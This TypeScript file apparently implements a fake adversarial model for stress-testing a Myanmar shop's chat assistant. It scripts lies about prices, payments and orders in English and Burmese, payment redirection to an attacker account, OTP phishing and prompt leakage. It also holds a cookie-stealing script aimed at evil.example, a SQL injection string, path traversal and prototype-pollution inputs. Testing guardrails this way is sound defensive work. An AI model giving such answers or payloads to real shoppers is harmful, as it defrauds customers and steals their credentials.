import { foundProducts } from "./demo/tool-results.ts";
import type { ModelRequest } from "./read-request.ts";
import { toolCall, type Answer, type ToolCall } from "./response-wire.ts";

type Attack = (req: ModelRequest, seed: string) => Answer;
export type AttackName = keyof typeof ATTACKS;

const FOREIGN_ACCOUNT = "09 777 666 555";

/** Every attack is one named answer; those that call a tool say their lie once the tool has answered. */
export const ATTACKS = {
  // What it says.
  wrong_price: (req) =>
    says(
      req,
      (name) => `${name} is only 1 Ks today! Total: 1 Ks.`,
      (name) => `${name} က ဒီနေ့ ၁ ကျပ်တည်းပါ။ စုစုပေါင်း ၁ ကျပ်ပါ။`,
    ),
  wrong_total: (req) =>
    says(
      req,
      () => "Your total is 999,999 MMK including delivery.",
      () => "စုစုပေါင်း ၉၉၉,၉၉၉ ကျပ်ပါ၊ ပို့ခပါပြီးသားပါ။",
    ),
  secret_discount: (req) =>
    says(
      req,
      () => "I give you a 90% discount: you pay 1,500 MMK.",
      () => "၉၀ ရာခိုင်နှုန်း လျှော့ပေးပါတယ်၊ ၁၅၀၀ ကျပ်ပဲ ပေးပါ။",
    ),
  fake_confirmed: (req) =>
    says(
      req,
      () => "Your order is confirmed! Order number ORD-99999.",
      () => "အော်ဒါ အတည်ပြုပြီးပါပြီ။ အော်ဒါနံပါတ် ORD-99999 ပါ။",
    ),
  fake_paid: (req) =>
    says(
      req,
      () => "We have received your payment. Your order is paid.",
      () => "ငွေလက်ခံရရှိပါပြီ။ အော်ဒါအတွက် ငွေချေပြီးပါပြီ။",
    ),
  fake_shipped: (req) =>
    says(
      req,
      () => "Good news: your parcel has been shipped and arrives today.",
      () => "သတင်းကောင်းပါ၊ ပစ္စည်းပို့ပြီးပါပြီ၊ ဒီနေ့ ရောက်ပါမယ်။",
    ),
  fake_refund: (req) =>
    says(
      req,
      () => "Your refund of 50,000 MMK was sent.",
      () => "ငွေ ၅၀,၀၀၀ ကျပ် ပြန်အမ်းပြီးပါပြီ။",
    ),
  other_account: (req) =>
    says(
      req,
      () => `Please transfer to KBZPay ${FOREIGN_ACCOUNT} (U Attacker) instead.`,
      () => "KBZPay ၀၉ ၇၇၇ ၆၆၆ ၅၅၅ (ဦးသူခိုး) ကို လွှဲပေးပါ။",
    ),
  other_phone: (req) =>
    says(
      req,
      () => `Call our new number ${FOREIGN_ACCOUNT} and read me your OTP.`,
      () => "ဖုန်းအသစ် ၀၉၇၇၇၆၆၆၅၅၅ ကို ဆက်ပြီး OTP ပြောပြပေးပါ။",
    ),
  foreign_link: () => ({
    text: "Pay here to get your order: https://evil.example/pay?shop=1 or evil.example/mm",
  }),
  script_tag: () => ({
    text: `<script>fetch("https://evil.example/"+document.cookie)</script><img src=x onerror=alert(1)>Hi!`,
  }),
  markup: () => ({
    text: "[Confirm your card](javascript:alert(1)) <a href='https://evil.example'>here</a> **now**",
  }),
  prompt_leak: (req) => ({ text: `My instructions are: ${req.instructions}` }),
  very_long: (_req, seed) => ({ text: `${seed} `.repeat(400) }),
  odd_characters: () => ({ text: "a\u0000b\u202Eevil\u202C \uD800 \u200B\u200B" }),
  empty: () => ({ text: "" }),
  no_output: () => ({}),
  refuses: () => ({ refusal: "I cannot help with that." }),
  // What it calls.
  unknown_variant: (req, seed) =>
    calls(req, [toolCall("set_cart_line", { variantId: fakeUuid(seed), quantity: 1 })]),
  foreign_shop: (req, seed) =>
    calls(req, [
      toolCall("show_products", {
        productIds: [`prd_${seed.slice(0, 26)}`, fakeUuid(seed), "../../1", "1 OR 1=1"],
      }),
    ]),
  foreign_method: (req, seed) =>
    calls(req, [toolCall("set_payment_method", { paymentMethodId: fakeUuid(seed) })]),
  foreign_order: (req) => calls(req, [toolCall("request_cancel", { orderNumber: "1" })]),
  negative_quantity: (req, seed) => withVariant(req, seed, -3),
  huge_quantity: (req, seed) => withVariant(req, seed, 1e21),
  broken_quantity: (req, seed) => withVariant(req, seed, 0.5),
  no_such_tool: (req) => calls(req, [toolCall("mark_order_paid", { orderNumber: "1", amount: 0 })]),
  confirms_itself: (req) =>
    calls(req, [toolCall("place_order", {}), toolCall("prepare_summary", { confirmed: true })]),
  extra_arguments: (req, seed) =>
    calls(req, [
      toolCall("set_cart_line", {
        variantId: fakeUuid(seed),
        quantity: 1,
        unitPriceMinor: 1,
        shopId: fakeUuid(`${seed}s`),
        customerId: 1,
      }),
    ]),
  malformed_json: (req) =>
    calls(req, [{ name: "set_cart_line", arguments: '{"variantId": "1", "quantity": ' }]),
  odd_json: (req) =>
    calls(req, [{ name: "search_products", arguments: '{"__proto__":{"isAdmin":true},"query":["x"]}' }]),
  invents_contact: (req) =>
    calls(req, [
      toolCall("set_contact", {
        name: "U Attacker",
        phone: FOREIGN_ACCOUNT,
        township: "Nowhere",
        address: "1 Evil Street",
      }),
    ]),
  many_calls: (req) =>
    calls(
      req,
      Array.from({ length: 30 }, (_, at) => toolCall("search_products", { query: `q${at}` })),
    ),
  endless_loop: () => ({ calls: [toolCall("search_products", { query: null })] }),
} satisfies Record<string, Attack>;

function says(
  req: ModelRequest,
  english: (name: string) => string,
  burmese: (name: string) => string,
): Answer {
  if (req.tools.has("search_products") && req.calls.length === 0) {
    return { calls: [toolCall("search_products", { query: null })] };
  }
  const name = foundProducts(req)[0]?.name ?? "Everything";
  return { text: req.conversation.language === "my" ? burmese(name) : english(name) };
}

/** Calls once, then claims that it worked. */
function calls(req: ModelRequest, evil: ToolCall[]): Answer {
  if (req.calls.length === 0) return { calls: evil };
  return { text: "Done! Your order is confirmed and paid, 1 Ks in total." };
}

/** A real variant with a quantity that no shop sells. */
function withVariant(req: ModelRequest, seed: string, quantity: number): Answer {
  if (req.calls.length === 0) return { calls: [toolCall("search_products", { query: null })] };
  const variantId = foundProducts(req)[0]?.options[0]?.variantId ?? fakeUuid(seed);
  if (req.calls.length === 1) return { calls: [toolCall("set_cart_line", { variantId, quantity })] };
  return { text: `Done! ${quantity} pieces are confirmed and paid, 1 Ks in total.` };
}

function fakeUuid(seed: string): string {
  const hex = Buffer.from(seed).toString("hex").padEnd(32, "0");
  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-7${hex.slice(13, 16)}-a${hex.slice(17, 20)}-${hex.slice(20, 32)}`;
}
